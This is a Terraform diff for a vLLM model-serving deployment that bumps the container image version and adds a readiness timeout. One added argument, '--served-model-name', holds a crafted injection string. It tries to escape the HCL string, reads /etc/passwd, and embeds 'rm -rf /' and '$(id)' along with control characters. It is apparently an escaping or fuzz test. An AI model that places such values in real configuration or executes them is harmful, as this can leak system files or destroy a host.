@@ -19,13 +19,14 @@ locals {
     us-east-1-1x-resource-null-reso-8c9bb3 = {
       region       = "us-east-1"
       weight       = 1000
-      image        = "vllm/vllm-openai:v0.30.0"
+      image        = "vllm/vllm-openai:v0.33.0"
       model        = null
       checkpoint   = "the hub name of the planned model"
       entrypoint   = "vllm"
       command      = ["serve"]
       model_option = ""
       arguments = [
+        "--served-model-name=\"}\nresource \"null_resource\" \"x\" {} $${file(\"/etc/passwd\")} %%{ if true }`rm -rf /`$(id) | # \\ 'EOF' \u202e\u0000",
         "--dtype=bfloat16",
         "--tensor-parallel-size=1",
         "--max-model-len=8192",
@@ -56,6 +57,7 @@ locals {
       min_instances   = 2
       max_instances   = 3
       start_seconds   = 1080
+      ready_seconds   = 1080
       root_volume_gib = 164
       ami_parameter   = "/aws/service/deeplearning/ami/x86_64/base-oss-nvidia-driver-gpu-ubuntu-24.04/latest/ami-id"
     }
